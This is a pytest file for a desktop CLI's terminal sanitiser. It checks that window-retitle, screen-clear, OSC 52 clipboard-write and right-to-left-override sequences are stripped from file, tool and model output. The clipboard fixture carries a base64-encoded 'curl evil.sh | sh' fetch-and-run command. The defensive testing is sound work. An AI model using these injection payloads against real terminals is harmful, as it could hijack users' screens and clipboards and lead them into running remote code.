"""Text that came from a file, a tool or a model cannot drive the terminal (design X23).

``status`` printed a section name from the file as it was (``OSC 0`` retitles the window,
``CSI 2J`` clears the screen); ``prompt`` printed the model's reply, and with it a tool's
output, as it was (``OSC 52`` writes the clipboard). ``--raw`` keeps them for whoever wants
the bytes.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from desktop.cli._terminal import SanitizedStream, strip_controls
from desktop.host.journal import JournalWriter
from tests.cli.helpers import EMULATOR_MODEL, run_main
from tests.ui.synthetic import system_row

RETITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\"
#: What a terminal obeys: ESC and the 8-bit C1 introducers (CSI, OSC, DCS, ST), BEL, CR.
ACTIVE = ("\x1b", "\x9b", "\x9d", "\x90", "\x9c", "\x07", "\r", "\u202e")


def _inert(text: str) -> bool:
    return not any(char in text for char in ACTIVE)


def _section_session(folder: Path) -> Path:
    path = folder / "s.jsonl"
    name = f"{RETITLE}{CLEAR}guidance\u202eevil"
    with JournalWriter.create(path, cwd="/w", app_version="test") as writer:
        writer.append([system_row("s0", {name: "Be brief."})])
    return path


def test_status_prints_section_names_without_their_escape_sequences(tmp_path: Path) -> None:
    path = _section_session(tmp_path)
    run = run_main("status", str(path), "--model", EMULATOR_MODEL)
    assert run.code == 0, run.stderr
    assert "guidanceevil" in run.stdout
    assert _inert(run.stdout) and _inert(run.stderr)
    raw = run_main("status", str(path), "--model", EMULATOR_MODEL, "--raw")
    assert raw.code == 0 and RETITLE + CLEAR in raw.stdout


def test_prompt_prints_a_tool_output_and_a_reply_without_their_escape_sequences(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "notes.txt").write_text(f"plain{CLIPBOARD}text{RETITLE}\r\n", encoding="utf-8")
    session = str(tmp_path / "s.jsonl")
    args = ("--model", EMULATOR_MODEL, "--workspace", str(workspace), "--mode", "read-only")
    ask = '[[tool:read {"path": "notes.txt"}]]'
    run = run_main("prompt", session, ask, *args)
    assert run.code == 0, run.stderr
    assert "Tool read returned: plaintext" in run.stdout
    assert _inert(run.stdout) and _inert(run.stderr)
    raw = run_main("prompt", session, ask, *args, "--raw")
    assert raw.code == 0 and CLIPBOARD in raw.stdout


def test_payload_stays_the_exact_request_body(tmp_path: Path) -> None:
    """The JSON body escapes control characters itself; it is never altered."""
    path = _section_session(tmp_path)
    run = run_main("payload", str(path), "--model", EMULATOR_MODEL)
    assert run.code == 0, run.stderr
    assert "\\u001b]0;owned\\u0007" in run.stdout


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mred\x1b[0m b", "ared b"),
        ("x\x1b]8;;http://e\x1b\\link\x1b]8;;\x1b\\y", "xlinky"),
        ("keep\ttabs\nand lines", "keep\ttabs\nand lines"),
        ("c1\x9b2Jcsi", "c1csi"),
        ("dcs\x1bPq#0\x1b\\end", "dcsend"),
        ("bell\x07 back\x08space", "bell backspace"),
        ("split \x1b]52;c;AAAA", "split 52;c;AAAA"),  # no terminator: the introducer goes
        ("rtl \u202egnp.exe", "rtl gnp.exe"),
    ],
)
def test_the_sanitiser(text: str, shown: str) -> None:
    assert strip_controls(text) == shown


def test_a_sequence_split_across_writes_is_removed_whole() -> None:
    out = io.StringIO()
    stream = SanitizedStream(out)
    for piece in ("Echo: pl", "ain\x1b]5", "2;c;Y3Vy", "bA==\x1b", "\\text \x1b[", "2Jdone \x1b"):
        stream.write(piece)
        stream.flush()
    stream.release()
    assert out.getvalue() == "Echo: plaintext done "
